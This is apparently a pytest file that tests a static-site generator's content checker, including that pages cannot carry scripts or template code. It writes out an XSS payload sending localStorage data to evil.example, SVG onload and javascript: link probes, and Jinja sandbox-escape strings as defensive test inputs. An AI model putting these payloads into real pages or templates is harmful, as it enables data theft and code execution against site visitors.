"""Content the build can trust: `check` sees what `build` sees, strict means strict, and content
cannot carry scripts. Each case is made from the tiny second topic by one small change."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import run_python, tree_digest


def _check(topic: Path) -> tuple[int, str]:
    result = run_python("-m", "generator", "check", cwd=topic)
    assert "Traceback" not in result.stdout + result.stderr, result.stderr
    return result.returncode, result.stderr


def _page(topic: Path) -> Path:
    return topic / "content" / "pages" / "index.md"


# case → (change, file named, field named, words of the message)
def _upper_md(topic: Path) -> None:
    _page(topic).rename(_page(topic).with_name("extra.MD"))
    (topic / "content" / "pages" / "index.md").write_text(
        (topic / "content" / "pages" / "extra.MD").read_text(encoding="utf-8"), encoding="utf-8"
    )


def _two_sources(topic: Path) -> None:
    folder = topic / "content" / "pages" / "sources"
    folder.mkdir()
    (folder / "index.md").write_text(
        (topic / "content" / "pages" / "sources.md").read_text(encoding="utf-8"), encoding="utf-8"
    )


def _latin1_page(topic: Path) -> None:
    _page(topic).write_bytes(_page(topic).read_bytes() + "Caf\u00e9\n".encode("latin-1"))


def _latin1_fragment(topic: Path) -> None:
    (topic / "content" / "fragments").mkdir(exist_ok=True)
    (topic / "content" / "fragments" / "note.md").write_bytes("Cr\u00e8me\n".encode("latin-1"))


def _script_in_page(topic: Path) -> None:
    with _page(topic).open("a", encoding="utf-8") as handle:
        handle.write('\n<script>fetch("https://evil.example/?" + localStorage.getItem("x"))</script>\n')


def _handler_in_figure(topic: Path) -> None:
    (topic / "content" / "figures").mkdir(exist_ok=True)
    (topic / "content" / "figures" / "loaf.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><title>A loaf</title></svg>\n', encoding="utf-8"
    )


def _script_in_fragment(topic: Path) -> None:
    (topic / "content" / "fragments").mkdir(exist_ok=True)
    (topic / "content" / "fragments" / "note.md").write_text("[hi](javascript:alert(1))\n", encoding="utf-8")


CASES = {
    "page with .MD": (_upper_md, "content/pages/extra.MD", "(whole file)", "must end in lowercase '.md'"),
    "two sources for one page": (_two_sources, "content/pages/sources/index.md", "(whole file)", "second page"),
    "non-UTF-8 page": (_latin1_page, "content/pages/index.md", "byte ", "is not UTF-8 text"),
    "non-UTF-8 fragment": (_latin1_fragment, "content/fragments/note.md", "byte ", "is not UTF-8 text"),
    "script in a page": (_script_in_page, "content/pages/index.md", "line ", "may not carry scripts"),
    "handler in a figure": (_handler_in_figure, "content/figures/loaf.svg", "line 1", "may not carry scripts"),
    "javascript link in a fragment": (_script_in_fragment, "content/fragments/note.md", "line 1", "'javascript:'"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_check_names_the_file_and_field(case: str, tiny_topic: Path) -> None:
    change, file, field, words = CASES[case]
    change(tiny_topic)
    code, err = _check(tiny_topic)
    assert code != 0
    lines = [line for line in err.splitlines() if file in line]
    assert any(field in line and words in line for line in lines), err


def test_a_byte_order_mark_is_accepted(tiny_topic: Path) -> None:
    _page(tiny_topic).write_bytes(b"\xef\xbb\xbf" + _page(tiny_topic).read_bytes())
    code, err = _check(tiny_topic)
    assert code == 0, err


@pytest.mark.build
@pytest.mark.parametrize(
    ("change", "words"),
    [
        ("broken link", "contains a link 'nowhere.md'"),
        ("stale nav entry", "nav"),
        ("script in a page", "may not carry scripts"),
    ],
)
def test_build_fails_where_strict_mkdocs_would_and_keeps_the_earlier_site(
    tiny_topic: Path, change: str, words: str
) -> None:
    first = run_python("-m", "generator", "build", cwd=tiny_topic)
    assert first.returncode == 0, first.stderr
    site = tiny_topic / "site"
    before = tree_digest(site)
    if change == "broken link":
        with _page(tiny_topic).open("a", encoding="utf-8") as handle:
            handle.write("\nSee [the other page](nowhere.md).\n")
    elif change == "stale nav entry":
        config = tiny_topic / "mkdocs.yml"
        nav = "  - Sources: sources.md"
        stale = config.read_text(encoding="utf-8").replace(nav, f"{nav}\n  - Gone: gone.md")
        config.write_text(stale, encoding="utf-8")
    else:
        _script_in_page(tiny_topic)
    result = run_python("-m", "generator", "build", cwd=tiny_topic)
    assert result.returncode != 0
    assert "Traceback" not in result.stderr
    assert words in result.stderr, result.stderr
    assert f"Build failed; {site} was left as it was." in result.stderr
    assert tree_digest(site) == before
    assert not list(tiny_topic.glob(".site-build-*"))


def _append(topic: Path, text: str) -> None:
    with _page(topic).open("a", encoding="utf-8") as handle:
        handle.write("\n" + text + "\n")


@pytest.mark.parametrize(
    "attempt",
    [
        "{{ quote.__globals__ }}",
        "{{ cite.__class__.__mro__[1].__subclasses__() }}",
        "{{ fragment.__code__.co_consts }}",
        "{{ ''.__class__.__base__.__subclasses__() }}",
    ],
)
def test_content_cannot_reach_python(tiny_topic: Path, attempt: str) -> None:
    _append(tiny_topic, attempt)
    code, err = _check(tiny_topic)
    assert code != 0
    assert "content/pages/index.md" in err and "only the page helpers can be used here" in err, err


def test_a_helper_called_wrongly_says_how_to_write_it(tiny_topic: Path) -> None:
    _append(tiny_topic, '{{ cite("bread-guide", "extra") }} {{ quote(3) }}')
    code, err = _check(tiny_topic)
    assert code != 0
    assert 'helper called wrongly: cite is written cite("source-id")' in err, err
    assert "lambda" not in err and "positional argument" not in err


@pytest.mark.build
def test_a_heading_id_works_and_deletes_nothing(tiny_topic: Path) -> None:
    _append(tiny_topic, "## Feeding the starter {#feeding}\n\nFlour and water, daily.")
    _append(tiny_topic, "## Baking {#baking}\n\nHot oven.")
    result = run_python("-m", "generator", "build", cwd=tiny_topic)
    assert result.returncode == 0, result.stderr
    html = (tiny_topic / "site" / "index.html").read_text(encoding="utf-8")
    assert 'id="feeding"' in html and 'id="baking"' in html
    assert "Flour and water, daily." in html and "Hot oven." in html


@pytest.mark.parametrize(
    ("fragment", "change", "words"),
    [
        ("crisis-line", "empty", "but empty"),
        ("crisis-panel", "delete", "but missing"),
        ("result-crisis", "blank lines", "but empty"),
    ],
)
def test_the_crisis_texts_are_required(tmp_path: Path, fragment: str, change: str, words: str) -> None:
    import shutil

    from tests.conftest import ROOT

    project = tmp_path / "site"
    project.mkdir()
    shutil.copy(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    shutil.copytree(ROOT / "content", project / "content")
    for folder in ("docs", "generator", "quiz", "experiments", "deckpdf"):  # mkdocs.yml names them (docs_dir, watch)
        (project / folder).mkdir()
    path = project / "content" / "fragments" / f"{fragment}.md"
    if change == "delete":
        path.unlink()
    else:
        path.write_text("" if change == "empty" else "\n\n  \n", encoding="utf-8")
    code, err = _check(project)
    assert code != 0
    assert f"content/fragments/{fragment}.md: (whole file): is required" in err and words in err, err


@pytest.mark.parametrize(
    ("change", "words"), [("delete", "is missing"), ("empty list", "has no cards"), ("blank", "has no cards")]
)
def test_check_reports_a_missing_or_empty_deck(tmp_path: Path, change: str, words: str) -> None:
    import shutil

    from tests.conftest import ROOT

    project = tmp_path / "site"
    project.mkdir()
    shutil.copy(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    shutil.copytree(ROOT / "content", project / "content")
    for folder in ("docs", "generator", "quiz", "experiments", "deckpdf"):
        (project / folder).mkdir()
    cards = project / "content" / "cards.yml"
    if change == "delete":
        cards.unlink()
    elif change == "empty list":
        text = cards.read_text(encoding="utf-8")
        cards.write_text(text[: text.index("\ncards:")] + "\ncards: []\n", encoding="utf-8")
    else:
        cards.write_text("", encoding="utf-8")
    code, err = _check(project)
    assert code != 0
    assert "content/cards.yml" in err and words in err, err


def test_the_cards_header_and_content_readme_match_the_schema() -> None:
    """Docs that match the code: every limit the header states is the schema's."""
    import re

    from generator.schema import Card
    from tests.conftest import ROOT

    header = (ROOT / "content" / "cards.yml").read_text(encoding="utf-8").split("\n- id:")[0]
    stated = {field: int(limit) for field, limit in re.findall(r"#\s+(\w+)\s+[^\n]*?at most (\d+)", header)}
    stated |= {
        field: int(limit)
        for field, limit in re.findall(r"#\s+(\w+)\s+[^#]*?#[^\n]*?at most (\d+)", header)
        if field not in stated
    }
    for field in ("title", "ask", "why", "respect"):
        limit = next(m.max_length for m in Card.model_fields[field].metadata if hasattr(m, "max_length"))
        assert stated.get(field) == limit, (field, stated.get(field), limit)
    readme = (ROOT / "content" / "README.md").read_text(encoding="utf-8")
    assert "at most 60 characters" in readme
    for name in set(re.findall(r"`([a-z-]+\.yml)`", readme)) - {"mkdocs.yml"}:
        assert (ROOT / "content" / name).exists(), f"content/README.md describes {name}, which does not exist"


def test_one_broken_file_gives_one_message_not_a_cascade(tiny_topic: Path) -> None:
    (tiny_topic / "content" / "sources.yml").write_text("- id: [unclosed\n", encoding="utf-8")
    code, err = _check(tiny_topic)
    assert code != 0
    problems = [line for line in err.splitlines() if line.strip().startswith("- ")]
    assert len(problems) == 1, err
    assert "content/sources.yml" in problems[0] and "invalid YAML" in problems[0]


def test_a_quote_with_a_blank_line_is_refused(tiny_topic: Path) -> None:
    quotes = tiny_topic / "content" / "quotes.yml"
    quotes.write_text(
        "- id: baker-patience\n  expert: baker\n  source: bread-guide\n"
        "  text: |\n    Patience is the main ingredient.\n\n    And flour.\n",
        encoding="utf-8",
    )
    code, err = _check(tiny_topic)
    assert code != 0
    assert "content/quotes.yml" in err and "text" in err and "one paragraph" in err, err
